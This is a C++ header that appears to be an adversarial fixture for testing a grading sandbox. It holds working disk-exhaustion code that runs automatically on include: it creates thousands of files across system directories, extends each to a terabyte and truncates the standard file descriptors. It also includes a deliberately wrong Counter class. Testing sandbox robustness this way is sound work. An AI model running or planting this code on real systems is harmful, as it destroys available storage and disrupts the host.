// ATTACK disk_without_end
// CLASS: dos-run
// TRIES: fills every place that can be written, and makes files by the thousand (bounded by
//   itself).
// SAFE GRADER MUST: stop it at its limits, call it a failure, leave nothing behind and go on.
// HONEST-RESULT: fail
// AT-MOST: 0
#pragma once
#include <initializer_list>
#include <csignal>
#include <cstdio>
#include <fcntl.h>
#include <unistd.h>
namespace filling {
inline char block[1 << 20];
inline const int done = [] {
    std::signal(SIGXFSZ, SIG_IGN);
    for (const char* folder : {"/tmp", ".", "/dev/shm", "/var/tmp", "/", "/dev", "/proc/self"}) {
        for (int i = 0; i < 2000; ++i) {
            char path[64];
            std::snprintf(path, sizeof path, "%s/pwned_fill_%d", folder, i);
            const int file = open(path, O_CREAT | O_WRONLY, 0600);
            if (file < 0) break;
            if (i < 64) (void)!write(file, block, sizeof block);
            (void)!ftruncate(file, 1l << 40);
            close(file);
        }
    }
    for (int fd = 0; fd < 5; ++fd) (void)!ftruncate(fd, 1l << 40);
    return 0;
}();
}

class Counter {  // wrong on purpose
public:
    void inc() {}
    void add(int) {}
    void reset() {}
    int value() const { return 4711; }
};
